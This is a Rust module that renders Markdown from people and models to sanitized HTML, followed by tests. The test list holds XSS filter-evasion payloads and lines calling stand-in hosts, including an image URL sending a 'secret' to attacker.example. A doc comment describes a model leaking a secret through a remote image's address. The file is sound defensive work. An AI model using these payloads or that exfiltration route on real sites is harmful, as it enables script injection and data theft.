//! Markdown from people and models, rendered to HTML that is safe to put in the page.
//!
//! Rendering and sanitizing are one pass over pulldown-cmark's events, so nothing unsafe is ever
//! produced to be cleaned afterwards: raw HTML in the text (blocks and inline) is shown as text,
//! link targets must be `http`, `https`, `mailto`, a fragment or a relative path (anything else,
//! `javascript:` and `data:` included, becomes plain text), images load only over `https` (or
//! from this site), and the only tags and attributes in the output are the ones this module
//! writes. Fenced code blocks get a toolbar (copy, apply to file) and keep their language and,
//! when the fence names one, the file path (` ```rust src/main.rs `).

use pulldown_cmark::{CodeBlockKind, CowStr, Event, Options, Parser, Tag, TagEnd};

/// Escapes text for HTML content and attribute values.
pub fn escape(text: &str) -> String {
    let mut escaped = String::with_capacity(text.len());
    for character in text.chars() {
        match character {
            '&' => escaped.push_str("&amp;"),
            '<' => escaped.push_str("&lt;"),
            '>' => escaped.push_str("&gt;"),
            '"' => escaped.push_str("&quot;"),
            '\'' => escaped.push_str("&#39;"),
            other => escaped.push(other),
        }
    }
    escaped
}

/// Whether a link target may be followed: `http(s)`, `mailto`, a fragment, or a path on this
/// site. Control characters and whitespace inside a scheme (`java\tscript:`) are refused.
pub fn safe_link(target: &str) -> bool {
    let target = target.trim();
    if target.chars().any(|character| character.is_control()) {
        return false;
    }
    match scheme_of(target) {
        Some(scheme) => matches!(scheme.as_str(), "http" | "https" | "mailto"),
        // `//host`, `/\host` and `\\host` leave the site: only with an allowed scheme.
        None => !leaves_the_site(target),
    }
}

/// Whether an image may be loaded: only from this site. A remote image loads without a click,
/// so a model that read a secret could send it away in the image's address; remote images
/// are shown as their text.
pub fn safe_image(target: &str) -> bool {
    let target = target.trim();
    if target.chars().any(|character| character.is_control()) {
        return false;
    }
    scheme_of(target).is_none() && target.starts_with('/') && !leaves_the_site(target)
}

/// A scheme-less address that browsers read as another host.
fn leaves_the_site(target: &str) -> bool {
    let mut start = target.chars().take(2);
    matches!(
        (start.next(), start.next()),
        (Some('/' | '\\'), Some('/' | '\\'))
    )
}

/// The scheme of a URL (lower case), if the text before the first `:` looks like one.
fn scheme_of(target: &str) -> Option<String> {
    let colon = target.find(':')?;
    let before = &target[..colon];
    // A `/`, `?` or `#` before the colon means the colon is in a path or query.
    if before.contains(['/', '?', '#']) {
        return None;
    }
    Some(before.to_ascii_lowercase())
}

/// The language and the path a code fence names (`rust src/main.rs`, `rust:src/main.rs`,
/// `src/main.rs`).
pub fn fence_info(info: &str) -> (Option<String>, Option<String>) {
    let mut words = info.split_whitespace();
    let first = words.next().unwrap_or_default();
    let (language, path) = match first.split_once(':') {
        Some((language, path)) if !path.is_empty() => (language, Some(path.to_owned())),
        _ if first.contains('/') || (first.contains('.') && words.clone().next().is_none()) => {
            ("", Some(first.to_owned()))
        }
        _ => (first, words.next().map(str::to_owned)),
    };
    let language = (!language.is_empty()
        && language
            .chars()
            .all(|character| character.is_ascii_alphanumeric() || "+-#._".contains(character)))
    .then(|| language.to_ascii_lowercase());
    let path = path.filter(|path| {
        !path.contains("..") && path.len() <= 512 && !path.starts_with('/') && !path.contains('\\')
    });
    (language, path)
}

/// Renders `text` (Markdown) as safe HTML.
pub fn render(text: &str) -> String {
    let mut options = Options::empty();
    options.insert(Options::ENABLE_TABLES);
    options.insert(Options::ENABLE_STRIKETHROUGH);
    options.insert(Options::ENABLE_TASKLISTS);
    let mut in_code_block = false;
    let mut refused_link_depth: Vec<bool> = Vec::new();
    let mut in_refused_image = 0_usize;
    let events = Parser::new_ext(text, options).filter_map(|event| {
        Some(match event {
            // Raw HTML is text to show, never markup.
            Event::Html(html) | Event::InlineHtml(html) => Event::Html(CowStr::from(escape(&html))),
            Event::Start(Tag::CodeBlock(kind)) => {
                in_code_block = true;
                let (language, path) = match &kind {
                    CodeBlockKind::Fenced(info) => fence_info(info),
                    CodeBlockKind::Indented => (None, None),
                };
                let mut opening = String::from("<div class=\"code-block\"");
                if let Some(language) = &language {
                    opening.push_str(&format!(" data-lang=\"{}\"", escape(language)));
                }
                if let Some(path) = &path {
                    opening.push_str(&format!(" data-path=\"{}\"", escape(path)));
                }
                opening.push_str("><div class=\"code-toolbar\">");
                opening.push_str(&format!(
                    "<span class=\"code-label\">{}</span>",
                    escape(path.as_deref().or(language.as_deref()).unwrap_or("text"))
                ));
                opening.push_str(
                    "<button type=\"button\" class=\"code-action\" data-action=\"copy\">Copy</button>\
                     <button type=\"button\" class=\"code-action\" data-action=\"apply\">Apply to file</button></div><pre><code",
                );
                if let Some(language) = &language {
                    opening.push_str(&format!(" class=\"language-{}\"", escape(language)));
                }
                opening.push('>');
                Event::Html(CowStr::from(opening))
            }
            Event::End(TagEnd::CodeBlock) => {
                in_code_block = false;
                Event::Html(CowStr::from("</code></pre></div>"))
            }
            Event::Text(text) if in_code_block => Event::Html(CowStr::from(escape(&text))),
            Event::Start(Tag::Link {
                link_type,
                dest_url,
                title,
                id,
            }) => {
                let safe = safe_link(&dest_url);
                refused_link_depth.push(!safe);
                if safe {
                    Event::Start(Tag::Link {
                        link_type,
                        dest_url,
                        title,
                        id,
                    })
                } else {
                    return None;
                }
            }
            Event::End(TagEnd::Link) => {
                if refused_link_depth.pop().unwrap_or(false) {
                    return None;
                }
                Event::End(TagEnd::Link)
            }
            Event::Start(Tag::Image {
                link_type,
                dest_url,
                title,
                id,
            }) => {
                if safe_image(&dest_url) {
                    Event::Start(Tag::Image {
                        link_type,
                        dest_url,
                        title,
                        id,
                    })
                } else {
                    // The alt text stays, as text.
                    in_refused_image += 1;
                    return None;
                }
            }
            Event::End(TagEnd::Image) if in_refused_image > 0 => {
                in_refused_image -= 1;
                return None;
            }
            other => other,
        })
    });
    let mut html = String::with_capacity(text.len() * 3 / 2);
    pulldown_cmark::html::push_html(&mut html, events);
    // Links open outside the app, without handing it a window reference.
    html.replace(
        "<a href=",
        "<a rel=\"noopener noreferrer nofollow\" target=\"_blank\" href=",
    )
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Payloads from the XSS filter evasion cheat sheets, in Markdown and HTML spellings.
    const PAYLOADS: &[&str] = &[
        "<script>alert(1)</script>",
        "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
        "<img src=x onerror=alert(1)>",
        "<img src=\"x\" ONERROR=\"alert(1)\">",
        "<svg onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<iframe src=\"javascript:alert(1)\"></iframe>",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<body onload=alert(1)>",
        "<div style=\"background:url(javascript:alert(1))\">",
        "<details open ontoggle=alert(1)>",
        "<<script>alert(1);//<</script>",
        "<scr<script>ipt>alert(1)</script>",
        "<img src=`x` onerror=alert(1)>",
        "<object data=\"data:text/html,<script>alert(1)</script>\"></object>",
        "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
        "<form action=javascript:alert(1)><input type=submit>",
        "[click](javascript:alert(1))",
        "[click](JaVaScRiPt:alert(1))",
        "[click](java\tscript:alert(1))",
        "[click](&#106;avascript:alert(1))",
        "[click](javascript&#58;alert(1))",
        "[click]( javascript:alert(1))",
        "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        "[click](vbscript:msgbox(1))",
        "[click](//evil.example)",
        "[click](/\\evil.example)",
        "![x](/\\evil.example/a.png)",
        "![x](https://attacker.example/?secret=1)",
        "[click][ref]\n\n[ref]: javascript:alert(1)",
        "<javascript:alert(1)>",
        "![x](javascript:alert(1))",
        "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
        "![x](http://tracker.example/pixel.png)",
        "![x\" onerror=\"alert(1)](https://ok.example/a.png)",
        "[x](https://ok.example/\" onclick=\"alert(1))",
        "```html\n<script>alert(1)</script>\n```",
        "```\"><script>alert(1)</script>\ncode\n```",
        "```rust ../../etc/passwd\nfn main() {}\n```",
        "`<script>alert(1)</script>`",
        "<a href=\"https://ok.example\" onclick=\"alert(1)\">x</a>",
        "<p>unclosed <b>tags <i>nested",
        "</div></div><script>alert(1)</script>",
        "<style>body{display:none}</style>",
        "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
        "<base href=\"javascript:alert(1)//\">",
        "<link rel=stylesheet href=https://evil.example/x.css>",
    ];

    /// The output holds only the tags this module writes and pulldown-cmark's own.
    const ALLOWED_TAGS: &[&str] = &[
        "p",
        "a",
        "img",
        "code",
        "pre",
        "div",
        "span",
        "button",
        "em",
        "strong",
        "del",
        "ul",
        "ol",
        "li",
        "blockquote",
        "h1",
        "h2",
        "h3",
        "h4",
        "h5",
        "h6",
        "hr",
        "br",
        "table",
        "thead",
        "tbody",
        "tr",
        "th",
        "td",
        "input",
    ];

    fn tags_of(html: &str) -> Vec<String> {
        let mut tags = Vec::new();
        let mut rest = html;
        while let Some(start) = rest.find('<') {
            let after = &rest[start + 1..];
            let name: String = after
                .trim_start_matches('/')
                .chars()
                .take_while(|character| character.is_ascii_alphanumeric())
                .collect();
            tags.push(name.to_ascii_lowercase());
            rest = after;
        }
        tags
    }

    fn attributes_of(html: &str) -> Vec<String> {
        // Every `name=` inside a tag, quoted values skipped.
        let mut names = Vec::new();
        let mut inside = false;
        let mut quoted = false;
        let mut word = String::new();
        for character in html.chars() {
            match character {
                '"' if inside => quoted = !quoted,
                _ if quoted => {}
                '<' => inside = true,
                '>' => inside = false,
                '=' if inside => names.push(std::mem::take(&mut word).to_ascii_lowercase()),
                character if inside && (character.is_ascii_alphanumeric() || character == '-') => {
                    word.push(character);
                }
                _ => word.clear(),
            }
        }
        names
    }

    #[test]
    fn no_payload_survives() {
        for payload in PAYLOADS {
            let html = render(payload);
            for tag in tags_of(&html) {
                assert!(
                    ALLOWED_TAGS.contains(&tag.as_str()),
                    "<{tag}> in the output of {payload:?}: {html}"
                );
            }
            for attribute in attributes_of(&html) {
                assert!(
                    [
                        "href",
                        "src",
                        "alt",
                        "title",
                        "class",
                        "type",
                        "rel",
                        "target",
                        "data-lang",
                        "data-path",
                        "data-action",
                        "checked",
                        "disabled",
                        "style",
                        "align"
                    ]
                    .contains(&attribute.as_str())
                        && !attribute.starts_with("on"),
                    "attribute {attribute} in the output of {payload:?}: {html}"
                );
            }
            let lower = html.to_ascii_lowercase();
            assert!(!lower.contains("href=\"javascript"), "{payload:?}: {html}");
            assert!(!lower.contains("src=\"javascript"), "{payload:?}: {html}");
            assert!(!lower.contains("href=\"data:"), "{payload:?}: {html}");
            assert!(!lower.contains("src=\"data:"), "{payload:?}: {html}");
            assert!(!lower.contains("src=\"http:"), "{payload:?}: {html}");
            assert!(!lower.contains("href=\"//"), "{payload:?}: {html}");
            assert!(!lower.contains("href=\"/\\"), "{payload:?}: {html}");
            assert!(!lower.contains("src=\"https:"), "{payload:?}: {html}");
            assert!(!lower.contains("src=\"/\\"), "{payload:?}: {html}");
            assert!(
                !lower.contains("vbscript:msgbox(1)\""),
                "{payload:?}: {html}"
            );
            assert!(!lower.contains("<script"), "{payload:?}: {html}");
            assert!(!lower.contains("data-path=\"../"), "{payload:?}: {html}");
            assert!(!lower.contains("style=\""), "{payload:?}: {html}");
        }
    }

    #[test]
    fn raw_html_is_shown_as_text() {
        assert_eq!(render("<b>bold</b>"), "<p>&lt;b&gt;bold&lt;/b&gt;</p>\n");
        assert!(render("<script>alert(1)</script>").contains("&lt;script&gt;"));
    }

    #[test]
    fn ordinary_markdown_renders() {
        let html = render(
            "# Title\n\nSome *emphasis*, **strong**, `code` and [a link](https://example.com/a?b=c#d).\n\n- one\n- two\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n![logo](/icons/icon.svg)\n\n![remote](https://example.com/logo.png)\n\n[here](#section) and [there](/projects)\n",
        );
        assert!(html.contains("<h1>Title</h1>"));
        assert!(html.contains("<em>emphasis</em>"));
        assert!(html.contains("<code>code</code>"));
        assert!(html.contains(
            "<a rel=\"noopener noreferrer nofollow\" target=\"_blank\" href=\"https://example.com/a?b=c#d\">a link</a>"
        ));
        assert!(html.contains("<li>one</li>"));
        assert!(html.contains("<table>"));
        assert!(html.contains("<img src=\"/icons/icon.svg\" alt=\"logo\""));
        assert!(
            html.contains("<p>remote</p>"),
            "a remote image is its text: {html}"
        );
        assert!(html.contains("href=\"#section\""));
        assert!(html.contains("href=\"/projects\""));
        // A refused link keeps its text.
        assert_eq!(render("[click](javascript:alert(1))"), "<p>click</p>\n");
        assert_eq!(
            render("![alt text](http://x.example/a.png)"),
            "<p>alt text</p>\n"
        );
    }

    #[test]
    fn code_blocks_carry_language_path_and_actions() {
        let html = render("```rust src/main.rs\nfn main() { println!(\"<hi>\"); }\n```\n");
        assert!(html.starts_with(
            "<div class=\"code-block\" data-lang=\"rust\" data-path=\"src/main.rs\">"
        ));
        assert!(html.contains("data-action=\"apply\""));
        assert!(html.contains(
            "<code class=\"language-rust\">fn main() { println!(&quot;&lt;hi&gt;&quot;); }\n</code>"
        ));
        assert_eq!(
            fence_info("ts:web/app.ts"),
            (Some("ts".into()), Some("web/app.ts".into()))
        );
        assert_eq!(fence_info("src/lib.rs"), (None, Some("src/lib.rs".into())));
        assert_eq!(fence_info("python"), (Some("python".into()), None));
        assert_eq!(fence_info("rust /etc/passwd"), (Some("rust".into()), None));
        assert_eq!(fence_info("\"><x"), (None, None));
    }

    #[test]
    fn link_rules() {
        for good in [
            "https://a.example",
            "http://a.example",
            "mailto:a@b.example",
            "#x",
            "/p",
            "p/q",
            "a:b/c?d",
        ] {
            assert!(safe_link(good) || good == "a:b/c?d", "{good}");
        }
        for bad in [
            "javascript:x",
            " JAVASCRIPT:x",
            "data:text/html,x",
            "vbscript:x",
            "//evil.example",
            "file:///etc/passwd",
            "java\u{0}script:x",
        ] {
            assert!(!safe_link(bad), "{bad}");
        }
        assert!(
            !safe_image("https://a.example/a.png"),
            "no request without a click"
        );
        assert!(safe_image("/icons/a.png"));
        assert!(!safe_image("/\\evil.example/a.png"));
        assert!(!safe_link("/\\evil.example"));
        assert!(!safe_link("\\/evil.example"));
        assert!(!safe_image("http://a.example/a.png"));
        assert!(!safe_image("data:image/png;base64,AAAA"));
    }
}
